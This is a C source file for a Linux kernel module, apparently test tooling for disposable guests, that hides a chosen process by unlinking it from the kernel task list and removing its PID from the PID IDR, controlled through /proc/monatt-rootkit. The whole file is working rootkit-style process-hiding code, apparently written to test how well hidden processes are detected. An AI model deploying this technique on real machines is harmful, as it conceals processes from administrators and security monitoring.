/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * rootkit.c - hides a process of a test's guest the two ways in which rootkits do
 *
 * A test tool for guests that are thrown away; it has no way in, no persistence and no stealth of
 * its own.  Root writes a line to /proc/monatt-rootkit:
 *   list PID   unlinks the process from the kernel's task list: for_each_process() misses it
 *   both PID   takes it out of the PID IDR as well: /proc, ps and kill() miss it too
 *   show PID   puts everything back
 * The process goes on running all the time: the scheduler uses neither of the two.  Locks that a
 * module cannot have (tasklist_lock, pidmap_lock) are replaced by interrupts off, which is enough
 * on one CPU.
 */
#include <linux/idr.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/proc_fs.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/uaccess.h>

#define HIDDEN_MAXIMUM 8
#define LINE_SIZE 32

static struct hidden {
    pid_t number;
    struct task_struct *task; /* referenced; NULL: a free slot */
    struct pid *pid;          /* referenced */
    bool from_idr;
} hidden[HIDDEN_MAXIMUM];
static DEFINE_MUTEX(hidden_lock);

static struct hidden *find(pid_t number)
{
    for (int i = 0; i < HIDDEN_MAXIMUM; i++) {
        if (hidden[i].task && hidden[i].number == number) {
            return &hidden[i];
        }
    }
    return NULL;
}

static int hide(pid_t number, bool from_idr)
{
    struct hidden *slot = NULL;
    struct task_struct *task;
    struct pid *pid;
    unsigned long flags;

    for (int i = 0; i < HIDDEN_MAXIMUM && !slot; i++) {
        slot = hidden[i].task ? NULL : &hidden[i];
    }
    pid = find_get_pid(number);
    task = get_pid_task(pid, PIDTYPE_TGID);
    if (!slot || !task) {
        if (task) {
            put_task_struct(task);
        }
        put_pid(pid);
        return slot ? -ESRCH : -ENOSPC;
    }
    local_irq_save(flags);
    /* Only the leader of a thread group is in the list; its threads hang on it. */
    list_del_rcu(&task->tasks);
    if (from_idr) {
        idr_remove(&init_pid_ns.idr, number);
    }
    local_irq_restore(flags);
    /* Readers are past it; linked to itself its exit unlinks nothing and does not crash. */
    synchronize_rcu();
    INIT_LIST_HEAD(&task->tasks);
    *slot = (struct hidden){number, task, pid, from_idr};
    return 0;
}

static int show(struct hidden *slot)
{
    unsigned long flags;
    int result = 0;

    local_irq_save(flags);
    if (slot->from_idr && pid_task(slot->pid, PIDTYPE_TGID)) {
        result = idr_alloc(&init_pid_ns.idr, slot->pid, slot->number, slot->number + 1, GFP_ATOMIC);
    }
    if (result >= 0 && pid_task(slot->pid, PIDTYPE_TGID)) {
        list_add_tail_rcu(&slot->task->tasks, &init_task.tasks);
    }
    local_irq_restore(flags);
    put_task_struct(slot->task);
    put_pid(slot->pid);
    slot->task = NULL;
    return result < 0 ? result : 0;
}

static ssize_t command_write(struct file *file, const char __user *text, size_t size, loff_t *at)
{
    char line[LINE_SIZE];
    char verb[8];
    int number;
    int result = -EINVAL;

    if (size >= sizeof(line)) {
        return -EINVAL;
    }
    if (copy_from_user(line, text, size)) {
        return -EFAULT;
    }
    line[size] = '\0';
    if (sscanf(line, "%7s %d", verb, &number) != 2) {
        return -EINVAL;
    }
    mutex_lock(&hidden_lock);
    if (strcmp(verb, "show") == 0) {
        struct hidden *slot = find(number);
        result = slot ? show(slot) : -ESRCH;
    } else if (strcmp(verb, "list") == 0 || strcmp(verb, "both") == 0) {
        result = find(number) ? -EEXIST : hide(number, verb[0] == 'b');
    }
    mutex_unlock(&hidden_lock);
    return result < 0 ? result : (ssize_t)size;
}

static const struct proc_ops command_operations = {.proc_write = command_write};

static int __init rootkit_init(void)
{
    return proc_create("monatt-rootkit", 0200, NULL, &command_operations) ? 0 : -ENOMEM;
}

static void __exit rootkit_exit(void)
{
    remove_proc_entry("monatt-rootkit", NULL);
    for (int i = 0; i < HIDDEN_MAXIMUM; i++) {
        if (hidden[i].task) {
            show(&hidden[i]);
        }
    }
}

module_init(rootkit_init);
module_exit(rootkit_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hides a process of a test's guest");
